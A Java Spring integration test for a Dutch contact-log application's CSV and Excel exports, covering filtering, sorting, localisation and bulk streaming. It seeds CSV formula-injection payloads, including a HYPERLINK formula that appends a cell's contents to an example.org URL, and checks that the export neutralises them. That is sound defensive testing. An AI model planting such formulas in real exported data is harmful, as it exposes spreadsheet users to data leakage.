package nl.cultuurschakel.binnenbuiten.contact;

import java.io.ByteArrayInputStream;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.time.LocalDate;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.UUID;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DateUtil;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;

import nl.cultuurschakel.binnenbuiten.IntegrationTest;
import nl.cultuurschakel.binnenbuiten.account.AccountFixtures;
import nl.cultuurschakel.binnenbuiten.account.CurrentUser;
import nl.cultuurschakel.binnenbuiten.account.Role;
import nl.cultuurschakel.binnenbuiten.partner.NetworkFixtures;
import nl.cultuurschakel.binnenbuiten.partner.PartnerDomain;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.data.domain.Sort;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.MvcResult;
import org.springframework.test.web.servlet.request.MockHttpServletRequestBuilder;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.asyncDispatch;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.request;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

/**
 * The exports contain exactly what the list shows — same filters, same order — in a form
 * Dutch Excel opens, and no subject a spreadsheet would run as a formula.
 */
@IntegrationTest
class ContactExportTests {

	static final String HYPERLINK = "=HYPERLINK(\"https://example.org/?d=\"&A1;\"Klik\")";

	@Autowired
	MockMvc mvc;

	@Autowired
	ContactService contacts;

	@Autowired
	NetworkFixtures network;

	@Autowired
	AccountFixtures accounts;

	@Autowired
	ContactExport export;

	@Autowired
	JdbcTemplate jdbc;

	@Autowired
	Clock clock;

	CurrentUser advisor;

	Long partner;

	@BeforeEach
	void setUp() {
		this.advisor = this.accounts.create("exporter", Role.ADVISOR);
		this.partner = this.network.partner("Exportpartner", PartnerDomain.SOCIAL);
		log(LocalDate.of(2023, 1, 10), "Eerste; met \"aanhalingstekens\"", null, null);
		log(LocalDate.of(2023, 6, 1), HYPERLINK, "Terugbellen", LocalDate.of(2023, 6, 15));
		log(LocalDate.of(2023, 3, 15), "\tTab vooraan", "\r=1+2", null);
		log(LocalDate.of(2024, 2, 1), "Buiten de periode", null, null);
	}

	@AfterEach
	void cleanUp() {
		this.network.deleteCreated();
		this.accounts.deleteCreated();
	}

	@Test
	void csvHoldsTheFilteredListNewestFirstLikeTheScreen() throws Exception {
		byte[] body = download(get("/contacts/export.csv"), "text/csv").getContentAsByteArray();
		assertThat(body).startsWith(0xEF, 0xBB, 0xBF);
		List<String> lines = csvLines(body);
		assertThat(lines).hasSize(4);
		assertThat(lines.get(0)).startsWith("Datum;Adviseur;Partner;Domein van de partner;")
			.endsWith(";Onderwerp;Vervolgactie;Uiterlijk op;Afgerond");
		assertThat(lines.get(1)).startsWith("2023-06-01;Test exporter;").contains(";2023-06-15;Nee");
		assertThat(lines.get(2)).startsWith("2023-03-15;");
		assertThat(lines.get(3)).startsWith("2023-01-10;")
			.contains(";Sociaal domein en welzijn;")
			.contains(";\"Eerste; met \"\"aanhalingstekens\"\"\";");
		assertThat(String.join("\n", lines)).doesNotContain("Buiten de periode", "Korte notitie");
	}

	@Test
	void csvNeutralisesFormulasIncludingALeadingTabOrCarriageReturn() throws Exception {
		String csv = new String(download(get("/contacts/export.csv"), "text/csv").getContentAsByteArray(),
				StandardCharsets.UTF_8);
		assertThat(csv).contains(";\"'=HYPERLINK(\"\"https://example.org/?d=\"\"&A1;\"\"Klik\"\")\";")
			.contains(";'\tTab vooraan;")
			.contains(";\"'\r=1+2\";")
			.doesNotContain(";=HYPERLINK", ";\tTab", ";\"\r=");
	}

	@Test
	void exportsFollowTheListsSortParameter() throws Exception {
		List<String> lines = csvLines(
				download(get("/contacts/export.csv").param("sort", "date,asc"), "text/csv").getContentAsByteArray());
		assertThat(lines.subList(1, 4)).extracting((line) -> line.substring(0, 10))
			.containsExactly("2023-01-10", "2023-03-15", "2023-06-01");
		// An unknown sort property is ignored, as on the list page.
		List<String> fallback = csvLines(
				download(get("/contacts/export.csv").param("sort", "notes,asc"), "text/csv").getContentAsByteArray());
		assertThat(fallback.get(1)).startsWith("2023-06-01");
	}

	@Test
	void xlsxHoldsTheSameRowsInTheSameOrderWithRealDateCells() throws Exception {
		byte[] body = download(get("/contacts/export.xlsx"), "application/vnd.openxmlformats-officedocument")
			.getContentAsByteArray();
		try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(body))) {
			Sheet sheet = workbook.getSheetAt(0);
			assertThat(workbook.getSheetName(0)).isEqualTo("Contactmomenten");
			assertThat(sheet.getLastRowNum()).isEqualTo(3);
			Row header = sheet.getRow(0);
			assertThat(header.getCell(0).getStringCellValue()).isEqualTo("Datum");
			assertThat(header.getCell(8).getStringCellValue()).isEqualTo("Uiterlijk op");
			assertThat(date(sheet.getRow(1).getCell(0))).isEqualTo(LocalDate.of(2023, 6, 1));
			assertThat(date(sheet.getRow(1).getCell(8))).isEqualTo(LocalDate.of(2023, 6, 15));
			assertThat(date(sheet.getRow(3).getCell(0))).isEqualTo(LocalDate.of(2023, 1, 10));
			Cell subject = sheet.getRow(1).getCell(6);
			assertThat(subject.getCellType()).isEqualTo(CellType.STRING);
			assertThat(subject.getStringCellValue()).isEqualTo(HYPERLINK);
			assertThat(sheet.getPaneInformation().isFreezePane()).isTrue();
			assertThat(sheet.getPaneInformation().getHorizontalSplitPosition()).isEqualTo((short) 1);
			assertThat(sheet.getColumnWidth(6)).as("subject column").isGreaterThan(HYPERLINK.length() * 256);
			assertThat(sheet.getColumnWidth(1)).as("advisor column").isGreaterThan(8 * 256);
		}
	}

	@Test
	void fileNamesAndHeadersFollowTheLanguage() throws Exception {
		String today = LocalDate.now(this.clock).toString();
		MockHttpServletResponse dutch = download(get("/contacts/export.csv"), "text/csv");
		assertThat(dutch.getHeader("Content-Disposition"))
			.isEqualTo("attachment; filename=\"contactmomenten-" + today + ".csv\"");
		MockHttpServletResponse english = download(get("/contacts/export.csv").param("lang", "en"), "text/csv");
		assertThat(english.getHeader("Content-Disposition"))
			.isEqualTo("attachment; filename=\"contact-moments-" + today + ".csv\"");
		assertThat(csvLines(english.getContentAsByteArray()).get(0)).startsWith("Date;Advisor;");
		MockHttpServletResponse xlsx = download(get("/contacts/export.xlsx").param("lang", "en"),
				"application/vnd.openxmlformats-officedocument");
		assertThat(xlsx.getHeader("Content-Disposition")).contains("contact-moments-" + today + ".xlsx");
	}

	@Test
	void theListLinksToBothDownloadsWithTheSharedWording() throws Exception {
		String html = this.mvc.perform(get("/contacts?partner={id}", this.partner).with(user(this.advisor)))
			.andExpect(status().isOk())
			.andReturn()
			.getResponse()
			.getContentAsString(StandardCharsets.UTF_8);
		Document page = Jsoup.parse(html);
		assertThat(page.select("a[href*=/contacts/export.csv]").text()).isEqualTo("Downloaden als CSV");
		assertThat(page.select("a[href*=/contacts/export.xlsx]").text()).isEqualTo("Downloaden als Excel (.xlsx)");
		assertThat(page.select("a[href*=/contacts/export.csv]").attr("href")).contains("partner=" + this.partner);
	}

	@Test
	void streamsAHundredThousandRows() {
		this.jdbc.update("""
				insert into contact (contact_date, advisor_id, counterpart_id, counterpart_domain, kind, subject)
				select date '2020-01-01' + (n % 1500), ?, ?, 'SOCIAL', 'PHONE', 'Bulk ' || n
				from generate_series(1, 100000) as n
				""", this.advisor.getId(), this.partner);
		long[] lines = { 0 };
		OutputStream counter = new OutputStream() {

			@Override
			public void write(int b) {
				if (b == '\n') {
					lines[0]++;
				}
			}

		};
		long started = System.nanoTime();
		this.export.writeCsv(new ContactFilter(null, null, null, this.partner, null, null, null, null),
				Sort.by(Sort.Direction.DESC, "date"), Locale.forLanguageTag("nl"), counter);
		long millis = (System.nanoTime() - started) / 1_000_000;
		// 100,000 bulk rows + 4 from setUp + the header line.
		assertThat(lines[0]).isEqualTo(100_005);
		System.out.printf("Exported 100,004 contact rows as CSV in %d ms%n", millis);
	}

	private MockHttpServletResponse download(MockHttpServletRequestBuilder request, String contentType)
			throws Exception {
		MvcResult started = this.mvc
			.perform(request.param("partner", this.partner.toString())
				.param("from", "2023-01-01")
				.param("to", "2023-12-31")
				.with(user(this.advisor)))
			.andExpect(request().asyncStarted())
			.andReturn();
		MockHttpServletResponse response = this.mvc.perform(asyncDispatch(started))
			.andExpect(status().isOk())
			.andReturn()
			.getResponse();
		assertThat(response.getContentType()).startsWith(contentType);
		return response;
	}

	private static List<String> csvLines(byte[] body) {
		// Records end in CRLF; a line break inside a quoted field stays in its line.
		return List.of(new String(body, StandardCharsets.UTF_8).substring(1).split("\r\n(?=\\d{4}-|$)"));
	}

	private static LocalDate date(Cell cell) {
		assertThat(DateUtil.isCellDateFormatted(cell)).as("date cell").isTrue();
		return cell.getLocalDateTimeCellValue().toLocalDate();
	}

	private void log(LocalDate date, String subject, String followUp, LocalDate followUpDue) {
		this.contacts.log(new ContactData(date, this.advisor.getId(), this.partner, Set.of(), null, ContactKind.MEETING,
				subject, "Korte notitie", followUp, followUpDue, false), UUID.randomUUID());
	}

}
